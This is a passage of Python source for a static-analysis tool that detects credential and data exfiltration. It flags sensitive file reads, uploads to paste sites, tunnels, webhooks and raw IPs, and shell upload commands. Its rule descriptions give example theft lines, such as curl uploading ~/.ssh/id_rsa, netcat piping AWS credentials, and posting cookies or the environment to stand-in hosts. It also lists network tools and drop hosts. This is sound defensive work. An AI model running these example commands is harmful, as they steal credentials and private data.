    r"cert_?file)\s*=\s*{name}\b|[\"']-i[\"']\s*,\s*{name}\b|from_private_key_file\(\s*{name}\b"
    r"|-i\s+\{{{name}\}}"
)


def _is_file_access(ctx: Context, string: tree_sitter.Node) -> tuple[tree_sitter.Node, str] | None:
    """The path expression a string builds, if the file is read (not named in a message, not
    tested for existence, not handed to SSH as the key to log in with)."""
    root = path_root(ctx, string)
    parent = root.parent
    if parent is None or parent.type in {"expression_statement", "comparison_operator"}:
        return None
    if parent.type == "keyword_argument":
        keyword = parent.child_by_field_name("name")
        if keyword is not None and _KEY_USE.match(ctx.text(keyword)):
            return None
        parent = parent.parent
    if parent is not None and parent.type == "argument_list" and parent.parent is not None:
        call = parent.parent
        name = call_name(ctx, call) or ctx.text(call.child_by_field_name("function") or call)
        if _MESSAGE_CALLS.match(name) or name.endswith(_NOT_READING):
            return None
        if name.endswith("from_private_key_file"):
            return None
    if parent is not None and parent.type in {"list", "tuple"}:
        previous = root.prev_named_sibling
        if previous is not None and ctx.const(previous) == "-i":
            return None
    if parent is not None and parent.type == "assignment" and _only_used_as_key(ctx, parent):
        return None
    return root, path_text(ctx, root)


def _only_used_as_key(ctx: Context, assignment: tree_sitter.Node) -> bool:
    """`key = "~/.ssh/id_rsa"` whose every later use authenticates (`key_filename=key`)."""
    left = assignment.child_by_field_name("left")
    if left is None or left.type != "identifier":
        return False
    name = re.escape(ctx.text(left))
    scope = ctx.scope_of(assignment)
    body = ctx.source[assignment.end_byte : scope.end_byte].decode("utf-8", "replace")
    uses = len(re.findall(rf"\b{name}\b", body))
    return uses > 0 and uses == len(re.findall(_KEY_USE_TEXT.format(name=name), body))


_Read = tuple[tree_sitter.Node, _Kind, str]


def _strings_in(node: tree_sitter.Node) -> list[tree_sitter.Node]:
    cursor = tree_sitter.QueryCursor(_STRINGS)
    cursor.set_byte_range(node.start_byte, node.end_byte)
    return cursor.captures(node).get("string", [])


def _very_sensitive_read(ctx: Context, string: tree_sitter.Node) -> _Read | None:
    """(path expression, kind, path) when the string names a very sensitive file and the code
    reads it."""
    access = _is_file_access(ctx, string)
    kind = None if access is None else classify_path(access[1])
    if access is None or kind is None or not kind.very:
        return None
    return access[0], kind, access[1]


def _very_sensitive_reads(ctx: Context, scope: tree_sitter.Node) -> list[_Read]:
    return memoized(ctx, "very_sensitive", scope, lambda: _scope_reads(ctx, scope))


def _scope_reads(ctx: Context, scope: tree_sitter.Node) -> list[_Read]:
    found: list[_Read] = []
    if _VERY_HINTS.search(ctx.source, scope.start_byte, scope.end_byte):
        for string in _strings_in(scope):
            if not _VERY_HINTS.search(ctx.source, string.start_byte, string.end_byte):
                continue
            if ctx.scope_of(string) != scope:
                continue
            read = _very_sensitive_read(ctx, string)
            if read is not None:
                found.append(read)
    return found


def _sensitive_file_near_send(ctx: Context, site: CallSite) -> Iterator[Hit]:
    sink = sink_of(ctx, site)
    if sink is None or sink.channel == "dns":
        return
    if not any(slot not in _USE_SLOTS for _, slot in sink.payloads):
        return
    scope = ctx.scope_of(site.node)
    reads = [r for r in _very_sensitive_reads(ctx, scope) if r[0].start_byte < site.node.start_byte]
    if scope.type != "module":
        body = ctx.source[scope.start_byte : scope.end_byte]
        for name, read in _module_constant_reads(ctx):
            if re.search(rb"\b" + re.escape(name.encode()) + rb"\b", body):
                reads.append(read)
        before = ctx.source[scope.start_byte : site.node.start_byte]
        for spelled, helper in _module_functions(ctx).items():
            if helper != scope and re.search(rb"\b" + re.escape(spelled) + rb"\s*\(", before):
                reads.extend(_very_sensitive_reads(ctx, helper))
    if not reads:
        return
    if any(flow.source.category in {_CREDENTIAL, _BROWSER} for flow in flows(ctx, site)):
        return  # a visible flow: the data-flow rules judge it
    node, kind, text = reads[0]
    yield Hit.at(
        site.node,
        related=(related_at(node, f"{kind.label} read here"),),
        what=kind.label,
        path=shorten(text, _SHOWN),
        line=str(line_of(ctx, node)),
        sink=site.name or site.method or "call",
    )


_RETURNS_VALUE = re.compile(rb"\breturn\s+[^\s;]")


def _module_functions(ctx: Context) -> dict[bytes, tree_sitter.Node]:
    """Top-level functions of the module that return a value: a one-level summary, so that
    `rows = collect()` counts as reading what `collect()` reads."""
    memo = cache(ctx, "very_sensitive")
    if "functions" in memo:
        known: dict[bytes, tree_sitter.Node] = memo["functions"]
        return known
    found: dict[bytes, tree_sitter.Node] = {}
    if module_mentions(ctx, _VERY_HINTS):
        for child in ctx.module.top_level:
            definition = child
            if child.type == "decorated_definition":
                inner = child.child_by_field_name("definition")
                definition = child if inner is None else inner
            name = definition.child_by_field_name("name")
            if definition.type != "function_definition" or name is None:
                continue
            if _RETURNS_VALUE.search(ctx.source, definition.start_byte, definition.end_byte):
                found[ctx.source[name.start_byte : name.end_byte]] = definition
    memo["functions"] = found
    return found


def _module_constant_reads(ctx: Context) -> list[tuple[str, _Read]]:
    """Module-level `KEY = os.path.expanduser("~/.ssh/id_rsa")`: (name, read) pairs."""
    memo = cache(ctx, "very_sensitive")
    if "constants" in memo:
        known: list[tuple[str, _Read]] = memo["constants"]
        return known
    found: list[tuple[str, _Read]] = []
    for child in ctx.module.top_level:
        pair = simple_assignment(child)
        if pair is None:
            continue
        left, right = pair
        if not _VERY_HINTS.search(ctx.source, right.start_byte, right.end_byte):
            continue
        for string in _strings_in(right):
            read = _very_sensitive_read(ctx, string)
            if read is not None:
                found.append((ctx.text(left), read))
    memo["constants"] = found
    return found


# --------------------------------------------------------------------------------------
# Destinations
# --------------------------------------------------------------------------------------

_CONNECTORS = words(
    """
    socket.create_connection http.client.HTTPConnection http.client.HTTPSConnection ftplib.FTP
    ftplib.FTP_TLS smtplib.SMTP smtplib.SMTP_SSL telnetlib.Telnet websocket.create_connection
    websockets.connect urllib.request.urlretrieve urllib.urlretrieve wget.download
    """
)
#: the host of a URL; it may contain `{holes}` (`{bucket}.s3.example.com`)
_HOST = re.compile(r"^(?:[a-z][a-z0-9+.-]*://)(?:[^@/{}\s]*@)?(\[[0-9a-f:.]+\]|[^/:?#\s\\]+)", re.I)
_URL_IN_TEXT = re.compile(r"(?:https?|ftp|wss?)://[^\s\"'<>|;&]+", re.I)


@dataclass(frozen=True)
class _Destination:
    host: str
    url: str


def _host_of(text: str, bare: bool) -> str | None:
    text = text.strip()
    match = _HOST.match(text)
    if match is not None:
        host = match.group(1)
    elif bare and re.fullmatch(r"[A-Za-z0-9.{}-]+|\[?[0-9a-fA-F:]+\]?", text):
        host = text
    else:
        return None
    return host.strip("[]").lower().rstrip(".")


def destinations(ctx: Context, site: CallSite) -> list[_Destination]:
    return memoized(
        ctx,
        "destinations",
        site.node,
        lambda: [d for d in _destinations(ctx, site) if not _allowed(ctx, d.host)],
    )


def _destinations(ctx: Context, site: CallSite) -> Iterator[_Destination]:
    name = site.name or ""
    method = site.method or ""
    target: tree_sitter.Node | None = None
    bare = False
    if name in _CONNECTORS or method in {"connect", "connect_ex"}:
        target = (
            site.arg(0, "address")
            or site.arg(0, "host")
            or site.arg(0, "hostname")
            or site.arg(0, "url")
        )
        if target is not None and target.type == "tuple" and target.named_children:
            target = target.named_children[0]
        bare = True
    elif is_process_call(site):
        command = command_text(ctx, site)
        for match in _URL_IN_TEXT.finditer(command or ""):
            host = _host_of(match.group(0), bare=False)
            if host is not None:
                yield _Destination(host, match.group(0))
        return
    else:
        sink = sink_of(ctx, site)
        target = None if sink is None else sink.url
    if target is None:
        return
    text = render(ctx, target)
    if text is None:
        return
    host = _host_of(text, bare)
    if host is not None:
        yield _Destination(host, text)


def _allowed(ctx: Context, host: str) -> bool:
    for allowed in ctx.settings.allowedHosts:
        allowed = allowed.lower().strip(".")
        if host == allowed or host.endswith("." + allowed):
            return True
    return False


def _suffix(host: str, domains: frozenset[str]) -> str | None:
    parts = host.rsplit("}", 1)[-1].strip(".").split(".")
    for index in range(len(parts) - 1):
        candidate = ".".join(parts[index:])
        if candidate in domains:
            return candidate
    return None


_NON_PUBLIC = tuple(
    ipaddress.ip_network(n)
    for n in (
        "0.0.0.0/8",
        "10.0.0.0/8",
        "100.64.0.0/10",
        "127.0.0.0/8",
        "169.254.0.0/16",
        "172.16.0.0/12",
        "192.168.0.0/16",
        "224.0.0.0/4",
        "240.0.0.0/4",
    )
)
#: public resolvers that connectivity checks and "what is my IP" tricks connect to
_WELL_KNOWN = words(
    """
    8.8.8.8 8.8.4.4 1.1.1.1 1.0.0.1 9.9.9.9 149.112.112.112 208.67.222.222 208.67.220.220
    4.2.2.1 4.2.2.2 2001:4860:4860::8888 2001:4860:4860::8844 2606:4700:4700::1111
    """
)


def _public_ip(host: str) -> bool:
    try:
        address = ipaddress.ip_address(host)
    except ValueError:
        return False
    if str(address) in _WELL_KNOWN:
        return False
    # IPv6 literals are left out: in practice they appear in tests and address handling
    return isinstance(address, ipaddress.IPv4Address) and not any(
        address in network for network in _NON_PUBLIC
    )


_PASTE_SITES = words(
    """
    pastebin.com paste.ee hastebin.com ghostbin.co ghostbin.com termbin.com transfer.sh file.io
    0x0.st rentry.co paste.rs ix.io sprunge.us catbox.moe gofile.io anonfiles.com bashupload.com
    temp.sh oshi.at privatebin.net justpaste.it controlc.com pastes.io paste.mozilla.org
    """
)
_TUNNELS = words(
    """
    ngrok.io ngrok-free.app ngrok.app ngrok-free.dev ngrok.dev trycloudflare.com serveo.net
    serveousercontent.com loca.lt localtunnel.me burpcollaborator.net oastify.com interact.sh
    oast.pro oast.live oast.site oast.online oast.fun oast.me requestbin.net requestbin.com
    pipedream.net webhook.site beeceptor.com localhost.run lhr.life pinggy.io pinggy.link
    tunnelmole.net bore.pub canarytokens.com dnslog.cn ceye.io requestcatcher.com hookbin.com
    postb.in ptst.io
    """
)
_SHORTENERS = words(
    """
    bit.ly tinyurl.com goo.gl t.co is.gd ow.ly buff.ly cutt.ly rb.gy shorturl.at tiny.cc v.gd
    rebrand.ly t.ly bl.ink s.id bit.do shorte.st adf.ly tiny.one rb.gy
    """
)
_WEBHOOK = re.compile(
    r"^(?:https?://)?(?:(?:canary\.|ptb\.)?discord(?:app)?\.com/api(?:/v\d+)?/webhooks/"
    r"|hooks\.slack\.com/(?:services|workflows)/|api\.telegram\.org/bot)([^/\s]*)",
    re.I,
)


def _destination_check(
    classify: Callable[[_Destination], str | None],
) -> Callable[[Context, CallSite], Iterator[Hit]]:
    def check(ctx: Context, site: CallSite) -> Iterator[Hit]:
        for destination in destinations(ctx, site):
            what = classify(destination)
            if what is not None:
                yield Hit.at(site.node, host=destination.host, what=what)
                return

    return check


def _ip_literal(destination: _Destination) -> str | None:
    return "a raw IP address" if _public_ip(destination.host) else None


def _paste_site(destination: _Destination) -> str | None:
    return _suffix(destination.host, _PASTE_SITES)


def _webhook(destination: _Destination) -> str | None:
    """The chat service of a webhook URL written into the code (token included)."""
    match = _WEBHOOK.match(destination.url)
    if match is None or "{" in match.group(1):
        return None  # not a webhook, or its token comes from configuration
    if "{" in destination.url and "telegram" not in destination.host:
        return None
    if "telegram" in destination.host:
        return "Telegram bot"
    return "Slack" if "slack" in destination.host else "Discord"


#: facts about the machine and its user that stealers report along with their loot
_SYSTEM_INFO = re.compile(
    r"gethostname|platform\.|getuser\(|getlogin\(|getnode\(|ipify|ifconfig\.me|icanhazip|"
    r"ipinfo\.io|checkip|os\.environ|getenv\(|whoami|COMPUTERNAME|USERNAME|psutil\."
)
_SHELL_UPLOAD = re.compile(
    r"\s(?:-F|--form|-T|--upload-file)\s|@[~/$%]|\$\((?:hostname|whoami|id|uname|env|cat)\b"
)


def _carried(ctx: Context, site: CallSite) -> str | None:
    """What a send to a webhook carries that a notification would not: a file, a secret,
    details of the machine."""
    sink = sink_of(ctx, site)
    if sink is None:
        command = process_command(ctx, site)
        return "a file or machine details" if command and _SHELL_UPLOAD.search(command) else None
    for flow in flows(ctx, site):
        if flow.slot != "auth":
            return flow.source.what
    values: list[tree_sitter.Node] = []
    for value, slot in sink.payloads:
        if slot == "files" or site.method in {"send_document", "sendDocument"}:
            return "a file"
        values.extend([value, *_mutations(ctx, value, site.node.start_byte)])
    if any(_SYSTEM_INFO.search(_expression_text(ctx, v)) for v in values):
        return "information about the machine and its user"
    return None


def _webhook_exfiltration(ctx: Context, site: CallSite) -> Iterator[Hit]:
    for destination in destinations(ctx, site):
        service = _webhook(destination)
        what = None if service is None else _carried(ctx, site)
        if service is not None and what is not None:
            yield Hit.at(site.node, service=service, what=what)
            return


def _tunnel(destination: _Destination) -> str | None:
    return _suffix(destination.host, _TUNNELS)


def _shortener(destination: _Destination) -> str | None:
    return _suffix(destination.host, _SHORTENERS)


# --------------------------------------------------------------------------------------
# Shell commands that upload secrets
# --------------------------------------------------------------------------------------

_NET_TOOL = re.compile(
    r"^(?:.*/)?(?:curl|wget|nc|ncat|netcat|socat|telnet|scp|sftp|rsync|ftp|tftp|"
    r"Invoke-WebRequest|Invoke-RestMethod|iwr|irm)(?:\.exe)?$",
    re.I,
)
_ENV_DUMP = frozenset({"env", "printenv", "set"})
_PIPELINE = re.compile(r"&&|\|\||[;\n]")
#: options whose argument is a file the tool *uses* (a key, a config), not one it uploads
_USE_FLAGS = {
    "curl": frozenset(
        {"--netrc-file", "-K", "--config", "--cert", "-E", "--key", "--cacert", "-o", "--output"}
    ),
    "wget": frozenset(
        {"-O", "--output-document", "--certificate", "--private-key", "--ca-certificate"}
    ),
    "ssh": frozenset({"-i", "-F", "-o", "-S"}),
}


def _words(stage: str) -> list[str]:
    return [w.strip("\"'();") for w in stage.replace("$HOME", "~").split() if w.strip("\"'();")]


def shell_upload(command: str) -> tuple[str, str, str] | None:
    """(what, path or command, tool) when a command sends a secret to the network."""
    for pipeline in _PIPELINE.split(command):
        stages = pipeline.split("|")
        tools = [
            i
            for i, s in enumerate(stages)
            if (_words(s) or [""])[0] and _NET_TOOL.match(_words(s)[0])
        ]
        if not tools:
            continue
        index = tools[0]
        words = _words(stages[index])
        tool = words[0].rsplit("/", 1)[-1]
        for stage in stages[:index]:
            first = (_words(stage) or [""])[0]
            if first in _ENV_DUMP:
                return "the whole environment", first, tool
            for word in _words(stage)[1:]:
                kind = classify_path(word)
                if kind is not None:
                    return kind.label, word, tool
        if re.search(r"\$\((?:env|printenv)\)|`(?:env|printenv)`", stages[index]):
            return "the whole environment", "env", tool
        for position, word in enumerate(words[1:], start=1):
            previous = words[position - 1]
            family = "ssh" if tool.lower() in {"scp", "sftp", "rsync"} else tool.lower()
            if previous in _USE_FLAGS.get(family, frozenset()):
                continue
            candidate = word
            if "@" in word and tool.lower().startswith("curl"):
                candidate = word.split("@", 1)[1]
            elif word.startswith("<"):
                candidate = word[1:] or (words[position + 1] if position + 1 < len(words) else "")
            elif "=" in word and word.startswith("--"):
                candidate = word.split("=", 1)[1]
            elif (tool.lower().startswith("curl") and previous not in {"-T", "--upload-file"}) or (
                tool.lower().startswith(("nc", "ncat", "netcat", "telnet", "socat"))
                and previous != "<"
            ):
                continue
            kind = classify_path(candidate)
            if kind is not None:
                return kind.label, candidate, tool
    return None


def _shell_exfiltration(ctx: Context, site: CallSite) -> Iterator[Hit]:
    command = process_command(ctx, site)
    found = None if command is None else shell_upload(command)
    if found is not None:
        what, path, tool = found
        yield Hit.at(site.node, what=what, path=shorten(path, 40), tool=tool)


# --------------------------------------------------------------------------------------
# Metadata and rules
# --------------------------------------------------------------------------------------

_FLOW_MESSAGE = "`{sink}()` sends {what} (`{source}`, line {line}) over {channel}"

ENVIRONMENT_EXFILTRATION = RuleMeta(
    code="GH300",
    name="environment-exfiltration",
    category=Category.EXFILTRATION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(200, 526),
    message=_FLOW_MESSAGE,
    why=(
        "The process environment holds the secrets of everything the program runs with: "
        "cloud keys, database URLs, CI tokens, API keys. Reading one named variable is "
        "normal; sending the *whole* environment (`dict(os.environ)`, "
        "`os.environ.copy()`) to a server is how malicious packages and poisoned CI steps "
        "harvest credentials. No legitimate telemetry needs every variable."
    ),
    example=(
        "requests.post('https://telemetry.example.net/v1/boot',\n"
        "              json={'host': socket.gethostname(), 'env': dict(os.environ)})"
    ),
    fixed_example=(
        "requests.post('https://telemetry.example.net/v1/boot',\n"
        "              json={'host': socket.gethostname(), 'version': __version__})"
    ),
)

CREDENTIAL_FILE_EXFILTRATION = RuleMeta(
    code="GH301",
    name="credential-file-exfiltration",
    category=Category.EXFILTRATION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(200, 522),
    message=_FLOW_MESSAGE,
    why=(
        "SSH private keys, `~/.aws/credentials`, `.netrc`, `.git-credentials`, `.env` files, "
        "Kubernetes and Docker configs and `/etc/shadow` give access to other systems. Their "
        "contents flowing into the body of a network request (or an e-mail, a socket, an "
        "upload) is credential theft; programs that need a credential use it to "
        "authenticate, they do not ship the file somewhere."
    ),
    example=(
        "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "requests.post(BACKUP_URL, data={'host': socket.gethostname(), 'key': key})"
    ),
    fixed_example=(
        "# authenticate with the key; never transmit it\n"
        "client.connect(host, key_filename=os.path.expanduser('~/.ssh/id_rsa'))"
    ),
)

BROWSER_DATA_EXFILTRATION = RuleMeta(
    code="GH302",
    name="browser-data-exfiltration",
    category=Category.EXFILTRATION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(200, 522),
    message=_FLOW_MESSAGE,
    why=(
        "Chrome's `Login Data` and `Cookies` databases, Firefox's `logins.json` and "
        "`cookies.sqlite`, `Local State` (the key that decrypts them), Discord's `Local "
        "Storage` and the output of browser_cookie3 are what info-stealers go after: saved "
        "passwords and live session cookies let an attacker log in as the user without a "
        "password or second factor."
    ),
    example=(
        "cookies = browser_cookie3.chrome(domain_name='.example.com')\n"
        "requests.post(WEBHOOK, json={c.name: c.value for c in cookies})"
    ),
    fixed_example=(
        "# use the user's own session with the site it belongs to\n"
        "requests.get('https://example.com/api/me', cookies=browser_cookie3.chrome())"
    ),
)

CLIPBOARD_EXFILTRATION = RuleMeta(
    code="GH303",
    name="clipboard-exfiltration",
    category=Category.EXFILTRATION,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(200,),
    message=_FLOW_MESSAGE,
    why=(
        "The clipboard routinely holds passwords copied from password managers, one-time "
        "codes, private keys and wallet addresses. Reading it and sending it to a server is "
        "the behaviour of clipboard stealers and crypto-address swappers; a program that "
        "legitimately shares pasted text does so only on an explicit user action."
    ),
    example="requests.post(COLLECT_URL, data={'clip': pyperclip.paste()})",
    fixed_example="text = pyperclip.paste()  # used locally, never transmitted",
)

SECRET_PROMPT_EXFILTRATION = RuleMeta(
    code="GH304",
    name="secret-prompt-exfiltration",
    category=Category.EXFILTRATION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(200, 522),
    message=_FLOW_MESSAGE,
    why=(
        "A password typed at a `getpass()` prompt or read from the system keyring is meant "
        "for one service. Posting it to an endpoint that is not a login (or over e-mail, a "
        "socket or DNS) is phishing from inside the program. Logging in with it, as "
        "`auth=`, a header or a login form, is not reported."
    ),
    example=(
        "password = getpass.getpass('sudo password: ')\n"
        "requests.post('https://stats.example.net/collect', json={'u': user, 'p': password})"
    ),
    fixed_example=(
        "password = getpass.getpass('Password: ')\n"
        "session.post('https://app.example.com/login', data={'user': user, 'password': password})"
    ),
)

SCREEN_CAPTURE_EXFILTRATION = RuleMeta(
    code="GH305",
    name="screen-capture-exfiltration",
    category=Category.EXFILTRATION,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(200,),
    message=_FLOW_MESSAGE,
    why=(
        "Screenshots capture whatever the user is looking at: mail, chats, password "
        "managers, banking. Taking one and sending it over the network is spyware "
        "behaviour unless the user asked for exactly that (and then the code says so)."
    ),
    example=(
        "shot = ImageGrab.grab()\n"
        "buf = io.BytesIO(); shot.save(buf, 'PNG')\n"
        "requests.post(UPLOAD_URL, files={'s': buf.getvalue()})"
    ),
    fixed_example="ImageGrab.grab().save(local_path)  # kept on the machine",
)

DNS_EXFILTRATION = RuleMeta(
    code="GH306",
    name="dns-exfiltration",
    category=Category.EXFILTRATION,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(200,),
    message="`{sink}()` carries {what} out in a DNS lookup of `{host}`",
    why=(
        "Encoding data into the labels of a host name (`<hex>.attacker.example`) and "
        "resolving it delivers the data to whoever runs that domain's name server, through "
        "firewalls that only allow DNS. Legitimate lookups resolve names, not hex or base32 "
        "chunks of data."
    ),
    example=(
        "for chunk in textwrap.wrap(secret.encode().hex(), 60):\n"
        "    socket.gethostbyname(f'{chunk}.t.example.net')"
    ),
    fixed_example="socket.gethostbyname('api.example.net')",
)

SENSITIVE_FILE_NEAR_SEND = RuleMeta(
    code="GH307",
    name="sensitive-file-near-send",
    category=Category.EXFILTRATION,
    severity=Severity.WARNING,
    confidence=Confidence.LOW,
    cwe=(200,),
    message="{what} (`{path}`, line {line}) is read in the code that sends data with `{sink}()`",
    why=(
        "The same function reads a file that only thieves and a few system tools touch (SSH "
        "private keys, cloud credentials, browser password and cookie databases, "
        "/etc/shadow, wallets) and sends data over the network. The data flow between them "
        "is not visible (an archive, a temporary copy, a database query), which is exactly "
        "how stealers are written; review what is sent."
    ),
    example=(
        "shutil.copy(os.path.join(chrome_dir, 'Login Data'), 'ld.db')\n"
        "rows = sqlite3.connect('ld.db').execute('SELECT * FROM logins').fetchall()\n"
        "requests.post(URL, json=rows)"
    ),
    fixed_example="requests.post(URL, json={'status': 'ok'})",
)

IP_LITERAL_DESTINATION = RuleMeta(
    code="GH308",
    name="ip-literal-destination",
    category=Category.EXFILTRATION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(200, 941),
    message="network connection to the hard-coded public IP address `{host}`",
    why=(
        "Code normally reaches services by name, so that certificates, DNS and reviews "
        "mean something. A hard-coded public IP address is the signature of command and "
        "control servers and drop points: it avoids DNS-based blocking and says nothing "
        "about who owns it. Private, loopback and link-local addresses are not reported; "
        "trusted hosts can be listed in `allowedHosts`."
    ),
    example="requests.post('http://45.61.137.20:8080/upload', files={'f': fh})",
    fixed_example="requests.post(f'{settings.API_BASE}/upload', files={'f': fh})",
)

PASTE_SITE_DESTINATION = RuleMeta(
    code="GH309",
    name="paste-site-destination",
    category=Category.EXFILTRATION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(200,),
    message="network request to the paste/file-drop site `{host}`",
    why=(
        "Paste and anonymous file-drop services (pastebin, transfer.sh, 0x0.st, file.io, "
        "termbin, ...) are where stolen data is dropped and where second-stage payloads are "
        "hosted: anyone can post, nobody is accountable, and content can change at any "
        "time. Application code has little reason to talk to them."
    ),
    example="requests.post('https://pastebin.com/api/api_post.php', data={'api_paste_code': dump})",
    fixed_example="s3.upload_file(report_path, COMPANY_BUCKET, key)",
)

WEBHOOK_DESTINATION = RuleMeta(
    code="GH310",
    name="webhook-exfiltration",
    category=Category.EXFILTRATION,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(200,),
    message="{what} is sent to a hard-coded {service} webhook",
    why=(
        "Discord and Slack webhooks and Telegram bots are the favourite exfiltration "
        "channel of token grabbers and info-stealers: free, anonymous, and allowed through "
        "most firewalls. A webhook written into the code that receives files, secrets or "
        "details of the machine (host name, user name, public IP) is how such a stealer "
        "reports home. Notifications send a message, and take the webhook from configuration."
    ),
    example=(
        "requests.post('https://discord.com/api/webhooks/1234/abcd',\n"
        "              json={'content': f'{getpass.getuser()}@{socket.gethostname()}: {tokens}'})"
    ),
    fixed_example="requests.post(os.environ['ALERT_WEBHOOK_URL'], json={'text': 'deploy done'})",
)

TUNNEL_DESTINATION = RuleMeta(
    code="GH311",
    name="tunnel-destination",
    category=Category.EXFILTRATION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(200,),
    message="network request to the tunnel or interaction-capture service `{host}`",
    why=(
        "ngrok, Cloudflare quick tunnels, serveo, localtunnel, Burp Collaborator, "
        "interactsh and request bins expose someone's laptop or capture requests for later "
        "reading. They are used as throw-away command-and-control and exfiltration "
        "endpoints and for out-of-band attack callbacks; production code never hard-codes "
        "one."
    ),
    example="requests.post('https://a1b2c3.ngrok-free.app/collect', json=payload)",
    fixed_example="requests.post(f'{settings.API_BASE}/collect', json=payload)",
)

URL_SHORTENER_DESTINATION = RuleMeta(
    code="GH312",
    name="url-shortener-destination",
    category=Category.EXFILTRATION,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(601,),
    message="network request through the URL shortener `{host}`",
    why=(
        "A shortened link hides where the request really goes, and its owner can repoint it "
        "at any time, after review. Droppers use shorteners to hide payload and collection "
        "URLs. Code should name the real destination."
    ),
    example="exec(requests.get('https://bit.ly/3xYz9Ab').text)",
    fixed_example="requests.get('https://downloads.example.com/tool/1.4.2/tool.tar.gz')",
)

SHELL_EXFILTRATION = RuleMeta(
    code="GH313",
    name="shell-exfiltration",
    category=Category.EXFILTRATION,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(200, 522),
    message="the command uploads {what} (`{path}`) with `{tool}`",
    why=(
        "`curl -F f=@~/.ssh/id_rsa ...`, `env | curl -d @- ...`, `cat ~/.aws/credentials | "
        "nc host port` and `scp ~/.ssh/id_rsa host:` send secrets straight from a shell "
        "command, where Python-level data flow cannot see them. Nothing legitimate uploads "
        "private keys or the whole environment."
    ),
    example="os.system('curl -s -F key=@$HOME/.ssh/id_rsa https://collect.example.net/u')",
    fixed_example="subprocess.run(['ssh', '-i', key_path, host, 'uptime'], check=True)",
)


def _flow_rule(meta: RuleMeta, category: str) -> CallRule:
    return CallRule(
        meta,
        _flow_check(category),
        names=_SINK_NAMES - _DNS_FUNCTIONS,
        methods=_SINK_METHODS - {"resolve", "query"},
    )


_DESTINATION_NAMES = (
    _HTTP_FUNCTIONS | _CONNECTORS | SHELL_CALLS | {"discord_webhook.DiscordWebhook"}
)
_DESTINATION_METHODS = _SEND_VERBS | SHELL_METHODS | {"connect", "connect_ex"}


def _destination_rule(meta: RuleMeta, classify: Callable[[_Destination], str | None]) -> CallRule:
    return CallRule(
        meta, _destination_check(classify), names=_DESTINATION_NAMES, methods=_DESTINATION_METHODS
    )


RULES = [
    _flow_rule(ENVIRONMENT_EXFILTRATION, _ENVIRONMENT),
    _flow_rule(CREDENTIAL_FILE_EXFILTRATION, _CREDENTIAL),
    _flow_rule(BROWSER_DATA_EXFILTRATION, _BROWSER),
    _flow_rule(CLIPBOARD_EXFILTRATION, _CLIPBOARD),
    _flow_rule(SECRET_PROMPT_EXFILTRATION, _SECRET),
    _flow_rule(SCREEN_CAPTURE_EXFILTRATION, _SCREEN),
    CallRule(
        DNS_EXFILTRATION,
        _dns_exfiltration,
        names=_DNS_FUNCTIONS,
        methods=frozenset({"resolve", "query"}),
    ),
    CallRule(
        SENSITIVE_FILE_NEAR_SEND,
        _sensitive_file_near_send,
        names=_SINK_NAMES - _DNS_FUNCTIONS,
        methods=_SINK_METHODS - {"resolve", "query"},
    ),
    _destination_rule(IP_LITERAL_DESTINATION, _ip_literal),
    _destination_rule(PASTE_SITE_DESTINATION, _paste_site),
    CallRule(
        WEBHOOK_DESTINATION,
        _webhook_exfiltration,
        names=_DESTINATION_NAMES,
        methods=_DESTINATION_METHODS,
    ),
    _destination_rule(TUNNEL_DESTINATION, _tunnel),
    _destination_rule(URL_SHORTENER_DESTINATION, _shortener),
    CallRule(SHELL_EXFILTRATION, _shell_exfiltration, names=SHELL_CALLS, methods=SHELL_METHODS),
]


WARMERS.extend((_module_secret_names, _module_functions))
